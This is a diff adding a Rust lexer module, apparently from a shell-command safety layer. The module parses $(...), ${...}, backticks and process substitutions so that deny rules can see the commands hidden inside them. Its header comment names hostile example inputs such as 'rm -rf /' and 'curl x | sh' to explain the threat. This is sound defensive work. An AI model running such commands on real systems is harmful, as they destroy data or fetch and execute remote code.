@@ -1,0 +1,209 @@
+//! Expansions and substitutions: `$X`, `${...}`, `$(...)`, `$((...))`, backticks, `<(...)`.
+//!
+//! Attack: a command hidden inside text the shell runs before the visible command
+//! (`echo $(rm -rf /)`, `` ls `curl x | sh` ``, `${X:-$(rm -rf /)}`). The hidden text is parsed
+//! as a command line of its own, so deny rules and circuit breakers see it, and the word is
+//! flagged as only known at run time. Nesting deeper than [`MAX_DEPTH`] is not parsed but
+//! reported as opaque, so hostile input cannot exhaust the stack.
+
+use super::word::Builder;
+use super::{Lexer, MAX_DEPTH};
+use crate::shell::{CommandLine, split};
+
+impl Lexer<'_> {
+    fn push_raw_literal(&self, b: &mut Builder, start: usize) {
+        let text: Vec<char> = self.slice(start, self.pos).to_vec();
+        for c in text {
+            b.lit(c);
+        }
+    }
+
+    pub(super) fn dollar(&mut self, b: &mut Builder, in_dquote: bool) {
+        let start = self.pos;
+        match self.peek_at(1) {
+            Some('\'') if !in_dquote => {
+                self.pos += 2;
+                self.ansi_c(b);
+            }
+            Some('"') if !in_dquote => {
+                self.pos += 2;
+                self.dquote(b, Some('"'));
+            }
+            Some('(') => self.substitution(b, false),
+            Some('{') => {
+                self.pos += 2;
+                self.param_braced(b);
+                b.w.param = true;
+                self.push_raw_literal(b, start);
+            }
+            Some(c) if c == '_' || c.is_ascii_alphabetic() => {
+                self.pos += 1;
+                while self
+                    .peek()
+                    .is_some_and(|c| c == '_' || c.is_ascii_alphanumeric())
+                {
+                    self.pos += 1;
+                }
+                b.w.param = true;
+                self.push_raw_literal(b, start);
+            }
+            Some(c) if c.is_ascii_digit() || "@*#?$!-".contains(c) => {
+                self.pos += 2;
+                b.w.param = true;
+                self.push_raw_literal(b, start);
+            }
+            _ => {
+                self.pos += 1;
+                if in_dquote { b.lit('$') } else { b.raw('$') }
+            }
+        }
+    }
+
+    /// `$(...)`, `$((...))`, `<(...)` or `>(...)`; the position is at the `$`, `<` or `>`.
+    pub(super) fn substitution(&mut self, b: &mut Builder, process: bool) {
+        let start = self.pos;
+        self.pos += 2;
+        if self.depth >= MAX_DEPTH {
+            if !self.skip_to_close_paren() {
+                b.w.unterminated = true;
+            }
+            b.w.reasons.push("nesting too deep to read".to_string());
+        } else {
+            self.depth += 1;
+            let (toks, closed) = self.lex_seq(true);
+            self.depth -= 1;
+            if !closed {
+                b.w.unterminated = true;
+            }
+            b.w.nested
+                .push(split::build(toks, self.depth + 1, self.budget));
+        }
+        if process {
+            b.w.procsub = true;
+        } else {
+            b.w.cmdsub = true;
+        }
+        self.push_raw_literal(b, start);
+    }
+
+    /// Finds the end of a `$(` without parsing it, when nesting is already too deep.
+    fn skip_to_close_paren(&mut self) -> bool {
+        let mut depth = 0usize;
+        while let Some(c) = self.peek() {
+            self.pos += 1;
+            match c {
+                '\\' => self.pos += 1,
+                '\'' => {
+                    while self.peek().is_some_and(|c| c != '\'') {
+                        self.pos += 1;
+                    }
+                    self.pos += 1;
+                }
+                '"' => {
+                    while let Some(c) = self.peek() {
+                        self.pos += if c == '\\' { 2 } else { 1 };
+                        if c == '"' {
+                            break;
+                        }
+                    }
+                }
+                '(' => depth += 1,
+                ')' if depth == 0 => return true,
+                ')' => depth -= 1,
+                _ => {}
+            }
+        }
+        self.pos = self.pos.min(self.chars.len());
+        false
+    }
+
+    /// The inside of `${...}`; the position is just after `${`. Defaults such as
+    /// `${X:-$(cmd)}` can hold command substitutions, so those are lexed too.
+    fn param_braced(&mut self, b: &mut Builder) {
+        let deep = self.depth >= MAX_DEPTH;
+        if deep {
+            b.w.reasons.push("nesting too deep to read".to_string());
+        }
+        self.depth += 1;
+        loop {
+            match self.peek() {
+                None => {
+                    b.w.unterminated = true;
+                    break;
+                }
+                Some('}') => {
+                    self.pos += 1;
+                    break;
+                }
+                Some('\\') => self.pos += 2,
+                Some('\'') => {
+                    self.pos += 1;
+                    while self.peek().is_some_and(|c| c != '\'') {
+                        self.pos += 1;
+                    }
+                    self.pos += 1;
+                }
+                Some('"') if !deep => {
+                    self.pos += 1;
+                    let mut inner = Builder::default();
+                    self.dquote(&mut inner, Some('"'));
+                    b.w.absorb(inner.w);
+                }
+                Some('$') if !deep => {
+                    let mut inner = Builder::default();
+                    self.dollar(&mut inner, true);
+                    b.w.absorb(inner.w);
+                }
+                Some('`') if !deep => {
+                    let mut inner = Builder::default();
+                    self.backtick(&mut inner);
+                    b.w.absorb(inner.w);
+                }
+                Some(_) => self.pos += 1,
+            }
+        }
+        self.depth -= 1;
+        self.pos = self.pos.min(self.chars.len());
+    }
+
+    pub(super) fn backtick(&mut self, b: &mut Builder) {
+        let start = self.pos;
+        self.pos += 1;
+        let mut inner = String::new();
+        let mut closed = false;
+        while let Some(c) = self.peek() {
+            match c {
+                '`' => {
+                    self.pos += 1;
+                    closed = true;
+                    break;
+                }
+                '\\' => match self.peek_at(1) {
+                    Some(n @ ('`' | '\\' | '$')) => {
+                        inner.push(n);
+                        self.pos += 2;
+                    }
+                    _ => {
+                        inner.push('\\');
+                        self.pos += 1;
+                    }
+                },
+                _ => {
+                    inner.push(c);
+                    self.pos += 1;
+                }
+            }
+        }
+        if !closed {
+            b.w.unterminated = true;
+        }
+        b.w.cmdsub = true;
+        if self.depth >= MAX_DEPTH {
+            b.w.reasons.push("nesting too deep to read".to_string());
+        } else {
+            b.w.nested
+                .push(CommandLine::parse_at(&inner, self.depth + 1, self.budget));
+        }
+        self.push_raw_literal(b, start);
+    }
+}
